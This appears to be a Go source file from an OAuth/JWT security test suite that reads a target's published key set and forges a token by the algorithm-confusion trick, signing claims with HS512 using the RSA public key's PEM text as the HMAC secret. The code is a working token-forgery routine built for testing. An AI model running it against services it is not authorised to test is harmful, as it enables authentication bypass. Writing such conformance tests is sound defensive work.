package suites

import (
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"

	. "github.com/onsi/ginkgo/v2"

	"flowproof/drivers/oauth"
)

// keySet is the published key set, read once a run.
func (s *session) keySet(ctx SpecContext) oauth.Exchange {
	if s.target.Endpoints.JWKS == "" {
		s.notApplicable("the target file names no key set (endpoints.jwks)")
	}
	const name = "the key set"
	x, made := s.memo[name]
	if !made {
		x = s.send(ctx, oauth.Request{Title: "read the key set", Method: "GET", URL: s.target.Endpoints.JWKS, Header: oauth.Params{{Name: "Accept", Value: "application/json"}}})
		s.memo[name] = x
	}
	return x
}

// hmacByPublicKey signs a token's claims with HS512, the published RSA key's PEM text being the secret:
// the classic confusion of algorithms (RFC 8725 §2.1).
func (s *session) hmacByPublicKey(ctx SpecContext, token string) string {
	set, err := oauth.ReadKeys(s.keySet(ctx).Body)
	if err != nil {
		s.inconclusive("%v", err)
	}
	for _, k := range set.Keys {
		public, is := k.Key.(*rsa.PublicKey)
		if !is {
			continue
		}
		der, err := x509.MarshalPKIXPublicKey(public)
		if err != nil {
			continue
		}
		secret := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
		unsigned := reassemble(token, func(h map[string]any) { h["alg"] = "HS512" }, nil, "")
		unsigned = unsigned[:len(unsigned)-1]
		mac := hmac.New(sha512.New, secret)
		mac.Write([]byte(unsigned))
		return unsigned + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
	}
	s.notApplicable("the key set has no RSA key, so there is no public key to misuse as an HMAC secret")
	panic("unreachable: Skip does not return")
}
